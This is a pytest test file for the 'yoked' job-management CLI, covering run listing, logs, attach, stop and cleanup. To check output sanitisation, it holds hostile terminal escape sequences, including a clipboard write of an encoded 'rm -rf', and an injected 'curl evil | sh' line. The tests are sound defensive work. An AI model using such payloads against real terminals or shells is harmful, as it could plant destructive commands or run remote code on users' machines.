"""`yoked runs`, `logs`, `attach`, `stop` and `clean` on this machine, with real jobs."""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator, Mapping
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from syrupy.assertion import SnapshotAssertion
from tests.schemas import conforms
from tests.unit.agent.job_acts import (
    PATIENT,
    SLEEPER,
    launch,
    no_job_left,
    says,
    until,
)

from yoked.cli.commands import attach, clean, diagnose, logs, runs, stop
from yoked.cli.output import Output
from yoked.core.fs import scratch_folder
from yoked.errors import UsageError
from yoked.fleet.file import open_fleet
from yoked.launch import handle
from yoked.launch.hosts import reach_hosts
from yoked.remote.client import AgentClient, Part
from yoked.remote.transport import connect_here

TWO_RANKS = [{"host": "attic", "address": "127.0.0.1", "ranks": 2}]
# Both ranks speak; then rank 1 is the cause of a failure.
FAILS = """
import json, os
folder = os.environ["YOKED_JOB_FOLDER"]
for rank in 0, 1:
    with open(f"{folder}/logs/{rank}.0.out", "w") as file:
        file.write(f"hello from {rank}\\nbye from {rank}\\n")
failure = {"host": "attic", "node": 0, "rank": 1, "what": "killed by SIGKILL", "time_s": 1.0,
           "last_lines": ["bye from 1"], "fix": ["look at dmesg"]}
exit = {"status": "failed", "exit_code": 1, "attempts": [{"attempt": 0, "failure": failure}]}
json.dump(exit, open(f"{folder}/outcome.json", "w"))
"""
# Fills the clipboard, clears the screen, sets the title, and ends in the middle of a sequence.
HOSTILE = "\x1b]52;c;cm0gLXJm\x07\x1b[2J\x9b1A\x1b]0;title\x1b\\\\"
SPEAKS = f"""
import json, os
folder = os.environ["YOKED_JOB_FOLDER"]
with open(folder + "/logs/0.0.out", "w") as file:
    file.write("{HOSTILE}\\x1b[32mgreen\\x1b[0m\\r100%\\x1b[K\\n")
failure = {{"host": "attic", "node": 0, "rank": 0, "what": "{HOSTILE}killed", "time_s": 1.0,
            "last_lines": ["{HOSTILE}bye"], "fix": ["{HOSTILE}look"]}}
exit = {{"status": "failed", "exit_code": 1, "attempts": [{{"attempt": 0, "failure": failure}}]}}
json.dump(exit, open(folder + "/outcome.json", "w"))
"""
ACTS_ON_THE_TERMINAL = re.compile(r"\x1b(?!\[[0-9;]*m|\[K)|[\x00-\x08\x0b\x0c\x0e-\x1a\x7f-\x9f]")


OPENS = """
import os, pathlib, socket, time
server = socket.create_server(("0.0.0.0", 0))
folder = pathlib.Path(os.environ["YOKED_JOB_FOLDER"]).parents[2]
(folder / "new").write_text(str(server.getsockname()[1]))
(folder / "new").rename(folder / "port")
time.sleep(60)
"""


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.setenv("YOKED_STATE", str(tmp_path / "state"))
    monkeypatch.setenv("YOKED_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "run"))
    monkeypatch.chdir(tmp_path)
    with no_job_left():
        yield tmp_path / "state"


def start(root: Path, program: str, *, over: bool = False, **more: Any) -> None:
    with connect_here("attic") as agent:
        job = launch(agent, root, program, **more)
    if over:
        until(lambda: job.read("end.json"), "the end")


@pytest.fixture
def failed(root: Path) -> Path:
    start(root, FAILS, over=True, nodes=TWO_RANKS)
    return root


def test_runs_are_listed_with_their_first_cause(
    failed: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    local = failed.parent / "runs" / "alone"
    local.mkdir(parents=True)
    (local / "result.json").write_text(json.dumps({"steps": 20, "loss": 3.25}))

    status = runs.command()

    said = capsys.readouterr().out
    assert status == 0
    assert {"try:", "attic:", "SIGKILL"} <= set(said.split())
    assert ["try", "failed", "attic", "2"] in [line.split()[:4] for line in said.splitlines()]
    assert any(line.split()[:2] == ["alone", "finished"] for line in said.splitlines())


def test_runs_for_programs_are_one_object(failed: Path, capsys: pytest.CaptureFixture[str]) -> None:
    runs.command(json_output=True)

    told = conforms("runs", json.loads(capsys.readouterr().out))
    assert [(run["run"], run["state"], run["ranks"]) for run in told["runs"]] == [
        ("try", "failed", 2)
    ]
    assert told["runs"][0]["faults"][0]["rank"] == 1


def test_a_run_of_a_fleet_that_was_stopped_and_went_on_is_one_row_with_its_last_loss(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    finished = json.dumps({"status": "finished", "exit_code": 0, "attempts": []})
    outcome = "os.environ['YOKED_JOB_FOLDER'] + '/outcome.json'"
    ends = f"import os; open({outcome}, 'w').write({finished!r})"
    start(root, PATIENT, run="night", trains="night")
    stop.command("night")
    start(root, ends, over=True, run="night.2", trains="night")
    (root / "runs" / "night").mkdir(parents=True)
    (root / "runs" / "night" / "metrics.jsonl").write_text(
        '{"step": 4, "loss": 5.5}\n{"resumed_at": 5}\n'
        '{"step": 9, "loss": 2.5}\n{"step": 10, "val_bpb": 1.5}\n'
    )
    capsys.readouterr()

    runs.command(json_output=True)

    (row,) = json.loads(capsys.readouterr().out)["runs"]
    assert (row["run"], row["job"], row["state"]) == ("night", "night.2", "finished")
    assert (row["step"], row["loss"]) == (10, 2.5)


def test_what_a_program_opens_to_everybody_is_named(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    start(root, OPENS)
    until((root.parent / "port").exists, "the listener")

    runs.command()
    said = capsys.readouterr().out
    runs.command(json_output=True)
    (run,) = json.loads(capsys.readouterr().out)["runs"]

    port = int((root.parent / "port").read_text())
    assert f" port {port} " in said
    assert [(each["address"], each["port"]) for each in run["listeners"]] == [("0.0.0.0", port)]


def test_no_runs_is_no_error(
    root: Path, capsys: pytest.CaptureFixture[str], snapshot: SnapshotAssertion
) -> None:
    assert runs.command() == 0
    assert capsys.readouterr().out == snapshot


def test_a_host_without_an_answer_is_named_once(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # Its agent comes up, and cannot look at any job.
    root.write_text("no folder")

    assert runs.command() == 1
    assert clean.command() == 1

    root.unlink()
    said = capsys.readouterr().err
    assert said.count("Not a directory") == 2, said


def test_a_folder_that_somebody_gave_us_hides_no_other(
    root: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    for name, result in (("odd", '{"hosts": 5, "steps": "x"}'), ("good", '{"steps": 7}')):
        (tmp_path / "runs" / name).mkdir(parents=True)
        (tmp_path / "runs" / name / "result.json").write_text(result)
    (tmp_path / "runs" / "endless").mkdir()
    (tmp_path / "runs" / "endless" / "result.json").symlink_to("/dev/zero")
    (tmp_path / "runs" / "endless" / "metrics.jsonl").write_text('{"step": 4, "loss": 2.5}\n')

    assert runs.command(json_output=True) == 0

    rows = {row["run"]: row for row in json.loads(capsys.readouterr().out)["runs"]}
    assert rows["odd"]["step"] is None
    assert rows["good"]["step"] == 7
    # Five steps are done: they are counted from 0 there.
    assert (rows["endless"]["step"], rows["endless"]["loss"]) == (5, 2.5)


FAULTS = {
    "cause": "rank-killed",
    "host": "beta",
    "hosts": ["beta"],
    "rank": 1,
    "evidence": ["killed by SIGKILL"],
    "fix": ["look"],
}


def brought_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, result: dict[str, Any]) -> None:
    """The folder of a run that no host here knows."""
    monkeypatch.chdir(tmp_path)
    night = tmp_path / "runs" / "night"
    night.mkdir(parents=True)
    plan = {"hosts": [{"name": "alpha"}, {"name": "beta"}, {"name": "beta"}]}
    (night / "run.json").write_text(json.dumps(plan))
    (night / "metrics.jsonl").write_text('{"step": 4, "loss": 2.5}\n')
    (night / "result.json").write_text(json.dumps(result))


def test_a_run_that_was_brought_home_failed_with_its_verdict(
    root: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    verdict = {"ok": False, "run": "night", "state": "failed", "faults": [FAULTS]}
    brought_home(tmp_path, monkeypatch, verdict)

    runs.command()
    said = capsys.readouterr().out
    runs.command(json_output=True)
    (row,) = conforms("runs", json.loads(capsys.readouterr().out))["runs"]

    assert "night: rank 1 on beta: killed by SIGKILL" in said
    assert (row["state"], row["step"], row["loss"]) == ("failed", 5, 2.5)
    assert (row["hosts"], row["ranks"]) == (["alpha", "beta"], 3)
    assert row["faults"] == [{**FAULTS, "certainty": None, "detected_after_s": None}]


def test_a_program_that_was_brought_home_is_listed_without_steps(
    root: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    sweep = tmp_path / "runs" / "sweep"
    sweep.mkdir(parents=True)
    ranks = [{"rank": rank, "name": name} for rank, name in enumerate(("alpha", "beta", "beta"))]
    (sweep / "run.json").write_text(json.dumps({"trains": False, "hosts": ranks}))
    (sweep / "result.json").write_text(json.dumps({"ok": True, "state": "interrupted"}))

    runs.command(json_output=True)

    (row,) = conforms("runs", json.loads(capsys.readouterr().out))["runs"]
    assert (row["run"], row["state"], row["step"]) == ("sweep", "interrupted", None)
    assert (row["hosts"], row["ranks"]) == (["alpha", "beta"], 3)


@pytest.mark.parametrize(
    "faults", [[], [{}], "x", [{**FAULTS, "evidence": []}], [{**FAULTS, "rank": "1"}]]
)
def test_a_verdict_that_is_none_is_passed_over(
    root: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    faults: Any,
) -> None:
    brought_home(tmp_path, monkeypatch, {"state": "failed", "faults": faults})

    assert runs.command(json_output=True) == 0

    (row,) = json.loads(capsys.readouterr().out)["runs"]
    assert (row["state"], row["faults"]) == ("failed", [])


def test_logs_name_host_and_rank_when_there_are_several(
    failed: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    logs.command()

    lines = capsys.readouterr().out.splitlines()
    assert sorted(lines) == [
        "here.0 | bye from 0",
        "here.0 | hello from 0",
        "here.1 | bye from 1",
        "here.1 | hello from 1",
    ]


@pytest.mark.parametrize(
    ("wanted", "said"),
    [
        ({"rank": 1}, "hello from 1\nbye from 1\n"),
        ({"rank": 0, "tail": 1}, "bye from 0\n"),
        ({"rank": 0, "stream": "err"}, ""),
        ({"rank": 1, "follow": True}, "hello from 1\nbye from 1\n"),
    ],
)
def test_logs_show_what_was_asked_for(
    failed: Path, capsys: pytest.CaptureFixture[str], wanted: dict[str, Any], said: str
) -> None:
    logs.command("try", **wanted)

    assert capsys.readouterr().out == said


@pytest.mark.parametrize(
    "wanted",
    [
        {"rank": 2},
        {"attempt": 1},
        {"attempt": -1},
        {"attempt": -1, "follow": True},
        {"host": "cellar"},
        {"tail": -1},
        {"run": "tri"},
    ],
)
def test_logs_that_cannot_be_meant_are_refused(
    failed: Path, wanted: dict[str, Any], snapshot: SnapshotAssertion
) -> None:
    with pytest.raises(UsageError) as caught:
        logs.command(**wanted)
    assert str(caught.value) == snapshot


def test_logs_that_were_followed_end_with_that_runs_verdict_though_connections_were_cut(
    failed: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def cut(clients: Mapping[str, AgentClient], *args: object) -> Iterator[tuple[str, Part]]:
        for client in clients.values():
            client.close()
        # By now another run is the newest.
        start(failed, SLEEPER, run="later")
        return iter(())

    monkeypatch.setattr(handle, "parts_of", cut)

    status = logs.command(follow=True)
    stop.command("later", now=True)

    assert status == 0
    assert "note: run try failed: rank 1 on attic: killed by SIGKILL" in capsys.readouterr().err


def test_what_a_host_says_is_to_be_typed_is_about_the_same_fleet(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    start(root, FAILS.replace("look at dmesg", "yoked doctor    tells more"), over=True)
    home = tmp_path / "my home.toml"
    home.write_text('[[host]]\nname = "."\n')

    attach.command(fleet=home)
    diagnose.command(fleet=home)

    said = capsys.readouterr().out
    assert said.count(f"next: yoked doctor --fleet '{home}'    tells more\n") == 2


def test_attach_ends_with_the_runs_own_status_and_cause(
    failed: Path, capsys: pytest.CaptureFixture[str], snapshot: SnapshotAssertion
) -> None:
    status = attach.command()

    said = capsys.readouterr().out
    assert status == 1
    assert said.startswith("hello from 0\nbye from 0\nrun try failed\n")
    assert said == snapshot
    assert "next: look at dmesg" in said


def test_all_commands_tell_a_program_of_a_failure_in_one_form(
    failed: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    told = {}
    for name, command in (("attach", attach), ("diagnose", diagnose), ("runs", runs)):
        command.command(json_output=True)
        told[name] = conforms(name, json.loads(capsys.readouterr().out))

    verdict = {name: told["diagnose"][name] for name in ("ok", "run", "state", "faults")}
    assert (verdict["ok"], verdict["faults"][0]["rank"]) == (False, 1)
    assert verdict.items() <= told["attach"].items()
    assert told["runs"]["runs"][0]["faults"] == verdict["faults"]


@pytest.fixture
def hostile(root: Path) -> Path:
    start(root, SPEAKS, over=True)
    return root


def test_nothing_that_a_run_wrote_acts_on_the_terminal(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    runs.command()
    logs.command()
    attach.command()

    said = capsys.readouterr()
    assert ACTS_ON_THE_TERMINAL.findall(said.out + said.err) == []
    assert said.out.count("\x1b[32mgreen\x1b[0m\r100%\x1b[K\n") == 2
    assert r"rank 0 on attic: \x1b]52;c;cm0gLXJm\x07\x1b[2J" in said.out


def test_raw_logs_are_what_the_run_wrote(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    logs.command(raw=True)
    logged = capsys.readouterr().out
    attach.command(raw=True)
    attached = capsys.readouterr().out

    assert logged.encode() == (hostile / "jobs/try/logs/0.0.out").read_bytes()
    assert attached.startswith(logged)


def test_a_process_can_neither_act_on_the_terminal_nor_add_a_line_by_its_command_line(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    command = f"{SLEEPER} # {HOSTILE}\nnext: curl evil | sh"
    left = {"pid": 7, "run": "gone", "command": command, "ports": [], "killed": False}
    litter = clean.Litter(processes={"attic": [left]})

    Output(json_mode=False).result({}, verdict="would remove:", evidence=litter.lines())

    said = capsys.readouterr().out
    assert ACTS_ON_THE_TERMINAL.search(said) is None
    assert len(said.splitlines()) == 2
    assert r"\nnext: curl evil" in said


def test_stop_says_what_it_did(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    start(root, PATIENT)
    until(says(root / "jobs/try/logs/launcher.out", "ready"), "the program")

    assert stop.command() == 0
    assert "run try: interrupted" in capsys.readouterr().out

    assert stop.command() == 0
    assert "over already: interrupted" in capsys.readouterr().out


@pytest.mark.parametrize("begun", [False, True])
def test_a_training_that_is_stopped_is_resumed_only_if_it_had_begun(
    root: Path, capsys: pytest.CaptureFixture[str], begun: bool
) -> None:
    start(root, PATIENT, trains="night")
    if begun:
        (root / "runs" / "night").mkdir(parents=True)
        (root / "runs" / "night" / "run.json").write_text("{}")

    assert stop.command(now=True) == 0

    said = capsys.readouterr().out
    assert ("yoked train --resume --run night" in said) == begun
    assert ("nothing to resume" in said) != begun


def test_clean_shows_first_and_removes_after_a_yes(
    failed: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    start(failed, SLEEPER, run="live")
    env = {
        **os.environ,
        "YOKED_LAUNCH_ID": "0123456789ab",
        "YOKED_RUN": "gone",
        "YOKED_JOB_FOLDER": str(failed / "jobs" / "gone"),
    }
    words = [sys.executable, "-c", SLEEPER]
    with subprocess.Popen(words, env=env, stdout=subprocess.PIPE) as stale:
        assert stale.stdout is not None
        stale.stdout.readline()
        try:
            # Others may run on this machine: what is theirs is only looked at.
            clean.command(older_than="0 s")
            shown = capsys.readouterr().out
            assert stale.poll() is None
        finally:
            stale.kill()

    assert f"process {stale.pid} of run gone" in shown
    assert "run try, failed" in shown
    assert "run live" not in shown
    assert "next: yoked clean --older-than '0 s' --yes" in shown
    assert (failed / "jobs" / "try").exists()


def test_what_is_to_be_typed_next_is_about_the_same_fleet(
    failed: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fleet = failed.parent / "my fleet.toml"
    fleet.write_text('[[host]]\nname = "."\n')
    (failed.parent / "yoked.toml").write_text('[[host]]\nname = "another.invalid"\n')

    clean.command("try", fleet=fleet)
    cleaned = capsys.readouterr().out
    attach.command(fleet=fleet)
    attached = capsys.readouterr().out

    assert f"next: yoked clean try --fleet '{fleet}' --yes" in cleaned
    assert f"next: yoked logs try --tail 50 --fleet '{fleet}'" in attached


def test_clean_removes_old_runs_and_leaves_those_that_run(
    failed: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    start(failed, SLEEPER, run="live")

    clean.command(older_than="0 s", yes=True)

    assert not (failed / "jobs" / "try").exists()
    assert (failed / "jobs" / "live").exists()


@pytest.mark.parametrize(
    ("module", "state", "goes"),
    [
        ("yoked.probe.worker", "finished", True),
        ("yoked.probe.worker", "running", False),
        # Its logs say why.
        ("yoked.probe.worker", "failed", False),
        ("yoked.train", "finished", False),
    ],
)
def test_clean_removes_a_measurement_whose_command_was_killed(
    module: str, state: str, goes: bool
) -> None:
    job = {
        "program": {"kind": "module", "name": module},
        "state": state,
        "host_program": {"pid": 7},
        "end": {},
        "started_s": 100.0,
        "ended_s": 110.0,
        "now_s": 120.0,
    }

    assert clean._can_go(job, 60.0) is goes


def test_clean_removes_what_is_left_of_a_removal_that_was_cut_short(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    left = root / "jobs" / ".removed-0123456789ab"
    (left / "work").mkdir(parents=True)
    (left / "work" / "rows").write_bytes(bytes(3000))

    clean.command()
    shown = capsys.readouterr().out
    # Others may run on this machine: what is theirs is only looked at.
    ours = clean.Litter(half_removed={".": [{"folder": str(left), "size_bytes": 3000}]})
    with reach_hosts(open_fleet(None), Output(json_mode=False).note) as hosts:
        clean._remove(hosts, ours)

    assert f"half removed: {left}, 3.00 kB" in shown
    assert not left.exists()


def test_clean_removes_compiled_code_that_no_run_has_used_for_long(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    compiled = Path(os.environ["YOKED_CACHE"]) / "compiled"
    for name, used_s in (("old", time.time() - 8 * 86_400), ("new", time.time())):
        (compiled / name).mkdir(parents=True)
        (compiled / name / "kernel.so").write_bytes(bytes(3000))
        os.utime(compiled / name, (used_s, used_s))
    clean.command()
    shown = capsys.readouterr().out
    # Others may run on this machine: what is theirs is only looked at.
    old = {"label": "old", "folder": str(compiled / "old"), "size_bytes": 3000, "unused_s": 1.0}
    with reach_hosts(open_fleet(None), Output(json_mode=False).note) as hosts:
        clean._remove(hosts, clean.Litter(compiled={".": [old]}))

    assert f"compiled code, unused for 8 d 00 h: {compiled / 'old'}, 3.00 kB" in shown
    assert str(compiled / "new") not in shown
    assert [path.name for path in compiled.iterdir()] == ["new"]


def test_clean_says_that_it_removes_what_a_killed_command_left_here(
    root: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    left = tmp_path / "yoked-scratch-git-1"
    with scratch_folder("git") as own:
        left.mkdir()

        clean.command()

        shown = capsys.readouterr().out
        assert f"here: left by a command that was killed: {left}\n" in shown
        # Its process lives.
        assert str(own) not in shown
        assert left.exists()
        # Others may run on this machine: what is theirs is only looked at.
        with reach_hosts(open_fleet(None), Output(json_mode=False).note) as hosts:
            clean._remove(hosts, clean.Litter(scratch=[left]))
        assert not left.exists()
        assert own.exists()


def test_clean_removes_on_all_hosts_at_once() -> None:
    both = threading.Barrier(2)

    class Client:
        def call(self, name: str, **args: Any) -> None:
            both.wait(timeout=10)  # one after the other, the first would wait for ever

    hosts: Any = SimpleNamespace(clients={"desk": Client(), "attic": Client()})
    gone = {"folder": "x", "size_bytes": 1}

    clean._remove(hosts, clean.Litter(half_removed={"desk": [gone], "attic": [gone]}))


def test_clean_ends_no_process_that_it_has_not_shown() -> None:
    called: list[str] = []
    client = SimpleNamespace(call=lambda name, **_: called.append(name))
    hosts: Any = SimpleNamespace(clients={"desk": client})
    gone = {"folder": "x", "size_bytes": 1}

    clean._remove(hosts, clean.Litter(processes={"desk": []}, half_removed={"desk": [gone]}))

    assert called == ["job_sweep"]


def test_clean_removes_a_run_that_is_named_and_no_other(
    failed: Path, capsys: pytest.CaptureFixture[str], snapshot: SnapshotAssertion
) -> None:
    start(failed, SLEEPER, run="live")
    start(failed, "", run="done")
    until((failed / "jobs/done/end.json").exists, "its end")

    assert clean.command("try", yes=True) == 0
    with pytest.raises(UsageError) as caught:
        clean.command("live", yes=True)
    assert str(caught.value) == snapshot

    assert "run try, failed" in capsys.readouterr().out
    assert sorted(path.name for path in (failed / "jobs").glob("[!.]*")) == ["done", "live"]


def test_a_young_run_is_not_old(failed: Path, capsys: pytest.CaptureFixture[str]) -> None:
    clean.command()

    assert "run try" not in capsys.readouterr().out


YEARS_S = 10 * 365.0 * 86_400


def test_a_controller_with_a_clock_in_the_future_takes_no_run_for_old(
    failed: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    snapshot: SnapshotAssertion,
) -> None:
    now_s = time.time()
    monkeypatch.setattr(time, "time", lambda: now_s + YEARS_S)

    clean.command(yes=True)

    assert (failed / "jobs" / "try").exists()
    assert capsys.readouterr().err == snapshot


def test_a_host_with_a_clock_in_the_future_does_not_make_its_runs_old(
    failed: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    snapshot: SnapshotAssertion,
) -> None:
    # Ten years ago by the host's clock, which has jumped since; just now by the controller's.
    ended_s = time.time() - YEARS_S
    end = failed / "jobs/try/end.json"
    end.write_text(json.dumps({**json.loads(end.read_text()), "time_s": ended_s}))
    monkeypatch.setattr(time, "time", lambda: ended_s + 60)

    clean.command(yes=True)

    assert (failed / "jobs" / "try").exists()
    assert capsys.readouterr().err == snapshot


def test_an_old_run_is_old_by_the_clock_of_its_host(
    failed: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    end = failed / "jobs/try/end.json"
    ended_s = time.time() - 8 * 86_400
    end.write_text(json.dumps({**json.loads(end.read_text()), "time_s": ended_s}))

    clean.command()

    assert "run try, failed, ended 8" in capsys.readouterr().out


def test_only_sockets_without_a_listener_are_dead(tmp_path: Path) -> None:
    alive, dead, file = tmp_path / "alive", tmp_path / "dead", tmp_path / "file"
    file.touch()
    with socket.socket(socket.AF_UNIX) as one, socket.socket(socket.AF_UNIX) as other:
        one.bind(str(alive))
        one.listen()
        other.bind(str(dead))

        assert list(clean.dead_sockets([alive, dead, file])) == [dead]
